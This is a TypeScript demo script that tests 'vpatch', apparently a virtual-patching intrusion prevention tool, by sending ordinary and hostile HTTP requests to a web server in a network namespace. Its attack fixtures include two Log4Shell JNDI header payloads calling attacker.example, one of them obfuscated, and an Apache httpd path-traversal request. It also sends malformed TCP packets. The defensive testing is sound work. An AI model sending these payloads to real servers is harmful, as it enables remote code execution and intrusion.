/**
 * `make demo`: a web server in a network namespace, visited first by itself, then with vpatch in front of it. Every
 * line that it prints is a claim that has been checked; one that does not hold ends the demo with exit code 1.
 */
import { endOnSignals, type Finished, Testbed, until, whyNoTestbed } from '../support/netns.ts';
import { buildTcp } from '../support/packets.ts';
import { type EveEvent, VpatchProcess } from '../support/vpatch-process.ts';
import { HTTP_PORT, PAGE, WebServer } from '../support/web-server.ts';

const SIGNATURES = 'signatures/*/*.rules';
const CURL_TIMEOUT = 28;

interface Visit {
  readonly title: string;
  readonly path: string;
  readonly headers?: readonly string[];
  /** The virtual patch that knows it; null for an ordinary visit. */
  readonly cve: string | null;
}

const ORDINARY: readonly Visit[] = [
  { title: 'the start page', path: '/', cve: null },
  { title: 'a search with odd characters', path: '/search?q=%24%7Bprice%7D&from=1', cve: null },
];

const ATTACKS: readonly Visit[] = [
  {
    title: 'Log4Shell in a header',
    path: '/',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker sends.
    headers: ['X-Api-Version: ${jndi:ldap://attacker.example/a}'],
    cve: 'CVE-2021-44228',
  },
  {
    title: 'Log4Shell, disguised',
    path: '/',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker sends.
    headers: ['User-Agent: ${${lower:j}${::-n}d${env:NOPE:-i}:ldap://attacker.example/a}'],
    cve: 'CVE-2021-44228',
  },
  { title: 'path traversal in Apache httpd', path: '/icons/.%2e/server-status', cve: 'CVE-2021-41773' },
];

let claims = 0;

async function main(): Promise<number> {
  const reason = whyNoTestbed();
  if (reason !== null) {
    console.error(`demo: cannot make network namespaces with NFQUEUE here (${reason}): run it as root`);
    return 3;
  }
  const testbed = new Testbed();
  let server: WebServer | undefined;
  try {
    server = await WebServer.start(testbed);
    await withoutVpatch(testbed);
    await detecting(testbed);
    await preventing(testbed);
    await afterwards(testbed);
    console.log(`\nAll ${claims} claims were checked and hold.`);
    return 0;
  } catch (error) {
    console.error(`\nThis does not hold: ${(error as Error).message}`);
    return 1;
  } finally {
    await VpatchProcess.killAll();
    server?.close();
    testbed.close();
  }
}

async function withoutVpatch(testbed: Testbed): Promise<void> {
  heading('Without vpatch, everything arrives at the web server');
  for (const page of [...ORDINARY, ...ATTACKS]) {
    claim('passes', page.title, '', (await visit(testbed, page)).output === PAGE);
  }
}

async function detecting(testbed: Testbed): Promise<void> {
  heading('vpatch run --mode detect: attacks are reported and still arrive');
  const vpatch = await VpatchProcess.start(testbed, { ruleFiles: [SIGNATURES], args: ['--mode', 'detect'] });
  for (const page of ORDINARY) claim('passes', page.title, '', (await visit(testbed, page)).output === PAGE);
  for (const attack of ATTACKS) {
    const known = vpatch.events('alert').length;
    const isDelivered = (await visit(testbed, attack)).output === PAGE;
    const alert = await nextAlert(vpatch, known);
    const isReported = alert.alert?.action === 'allowed' && isAbout(alert, attack);
    claim('passes', attack.title, `reported: ${describe(alert)}`, isDelivered && isReported);
  }

  heading('Always-on checks block in detect mode too: nothing honest sends such packets');
  for (const [title, flags, port, check] of [
    ['a TCP packet with SYN and FIN', 'SF', HTTP_PORT, 'tcp.syn_fin'],
    ['a TCP packet to port 0', 'S', 0, 'tcp.port_zero'],
  ] as const) {
    const known = vpatch.events('drop').length;
    testbed.sendFrames([frame(testbed, flags, port)]);
    await until(`the drop of ${title} is reported`, () => vpatch.events('drop').length > known);
    const drop = vpatch.events('drop')[known]!;
    claim('BLOCKED', title, `check ${drop.vpatch?.check}`, drop.vpatch?.check === check);
  }
  claim('passes', ORDINARY[0]!.title, '', (await visit(testbed, ORDINARY[0]!)).output === PAGE);
  await stop(vpatch);
}

async function preventing(testbed: Testbed): Promise<void> {
  heading('vpatch run --mode prevent: attacks are reported and do not arrive');
  const vpatch = await VpatchProcess.start(testbed, { ruleFiles: [SIGNATURES], args: ['--mode', 'prevent'] });
  for (const page of ORDINARY) claim('passes', page.title, '', (await visit(testbed, page)).output === PAGE);
  for (const attack of ATTACKS) {
    const known = vpatch.events('alert').length;
    const { status, output } = await visit(testbed, attack);
    const alert = await nextAlert(vpatch, known);
    const isBlocked = status === CURL_TIMEOUT && output === '' && alert.alert?.action === 'blocked';
    claim('BLOCKED', attack.title, `by ${describe(alert)}`, isBlocked && isAbout(alert, attack));
  }
  claim('passes', 'the next visitor', '', (await visit(testbed, ORDINARY[0]!)).output === PAGE);
  await stop(vpatch);
}

async function afterwards(testbed: Testbed): Promise<void> {
  heading('vpatch stopped: it leaves nothing behind');
  const rules = ['iptables-save', 'ip6tables-save'].map((tool) => testbed.run('server', tool, []).output).join('');
  const tables = testbed.run('server', 'nft', ['list', 'tables']).output;
  const queues = testbed.run('server', 'cat', ['/proc/net/netfilter/nfnetlink_queue']).output;
  claim('gone', 'its firewall rules', '', !/vpatch/i.test(rules + tables));
  claim('gone', 'its queues', '', queues === '');
  claim('passes', ORDINARY[0]!.title, '', (await visit(testbed, ORDINARY[0]!)).output === PAGE);
}

function visit(testbed: Testbed, { path, headers = [] }: Visit): Promise<Finished> {
  const url = `http://${testbed.addresses.server[4]}:${HTTP_PORT}${path}`;
  const sent = headers.flatMap((header) => ['-H', header]);
  return testbed.finish('client', 'curl', ['-gs', '--path-as-is', '-m', '2', ...sent, url]);
}

function frame(testbed: Testbed, flags: string, destinationPort: number): Uint8Array {
  const { client, server } = testbed.addresses;
  const bytes = buildTcp({ ethernet: true, source: client[4], destination: server[4], destinationPort, flags });
  bytes.set(testbed.hardwareAddress('server'));
  return bytes;
}

async function nextAlert(vpatch: VpatchProcess, known: number): Promise<EveEvent> {
  await until('the attack is reported', () => vpatch.events('alert').length > known);
  return vpatch.events('alert')[known]!;
}

async function stop(vpatch: VpatchProcess): Promise<void> {
  const status = await vpatch.stop();
  if (status !== 0) throw new Error(`vpatch ended with ${status}: ${vpatch.log}`);
}

const isAbout = ({ vpatch }: EveEvent, { cve }: Visit): boolean => cve !== null && vpatch?.cve?.includes(cve) === true;

const describe = ({ alert, vpatch }: EveEvent): string =>
  `rule ${alert?.signature_id} ${vpatch?.cve?.join(' ') ?? ''} (${alert?.signature})`;

const heading = (text: string): void => console.log(`\n${text}`);

function claim(what: string, subject: string, because: string, holds: boolean): void {
  claims++;
  const line = `  ${what.padEnd(8)} ${subject.padEnd(32)} ${because}`.trimEnd();
  if (!holds) throw new Error(line.trim());
  console.log(line);
}

endOnSignals();
process.exitCode = await main();
